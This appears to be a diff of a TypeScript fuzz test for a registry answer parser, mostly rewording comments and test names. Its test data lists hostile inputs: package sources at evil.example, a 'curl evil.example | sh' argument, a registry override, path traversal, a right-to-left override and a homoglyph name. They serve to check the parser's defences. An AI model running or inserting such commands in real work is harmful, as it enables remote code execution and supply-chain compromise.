@@ -1,4 +1,4 @@
-/** Tests the parser with generated answers: none may crash it, or add references such as `${NAME}` to an entry. */
+/** Tests the parser with generated answers. No answer may crash it, or add references such as `${NAME}` to entries. */
 import * as fc from "fast-check";
 import { replaceEnvReferences } from "#lib/env-references.js";
 import { fillChoice } from "#registry/fill-choice.js";
@@ -11,11 +11,12 @@ import { describe, expect, it } from "vitest";
 
 const text = fc.oneof(fc.string(), fc.constantFrom("${HOME}", "$", "{HOME}", "{a}", "$${", "npm", "stdio", "named"));
 
-/** Objects with the field names of the API and values of any type. */
+/** The names of fields in the registry's API. */
 const field = fc.constantFrom(
   ...["type", "name", "value", "default", "isRequired", "isSecret", "variables", "choices", "valueHint", "isRepeated"],
 );
 const variable = fc.record({ default: text, isRequired: fc.boolean(), isSecret: fc.boolean() }, { requiredKeys: [] });
+/** An input with some of these fields, whose values may have the wrong type. */
 const input = fc.dictionary(
   field,
   fc.oneof(
@@ -68,7 +69,7 @@ describe("the parser of a registry's answers", () => {
     );
   });
 
-  it("passes literal text of the registry to the server as it is, whatever it contains", () => {
+  it("passes literal text of the registry unchanged to the server, whatever it contains", () => {
     fc.assert(
       fc.property(text, fc.array(text, { maxLength: 3 }), (first, more) => {
         const literal = [first, ...more].join("");
@@ -110,6 +111,7 @@ describe("the parser of a registry's answers", () => {
           "../x",
           "/bin/sh",
         ],
+        // The last name is a Cyrillic letter.
         ...["./x", "~/x", "git+https://evil.example/x", "https://evil.example/x.tgz", "a@npm:b", "a\u202eb", "а"],
       ].map((text) => [registryType, text] as const),
     ),
@@ -120,7 +122,7 @@ describe("the parser of a registry's answers", () => {
     }
   });
 
-  it("takes the command from its own list, and puts each argument of the publisher into one word", () => {
+  it("takes the command from its own list, and passes each argument of the publisher as one word", () => {
     const hostile = ["-c", "curl evil.example | sh", "--registry=http://evil.example", "a\nb", "\u202e"];
     for (const runtimeHint of ["sh", "/bin/sh", "npx -c id", "node", "docker", "-c"]) {
       const choice = choiceOf({
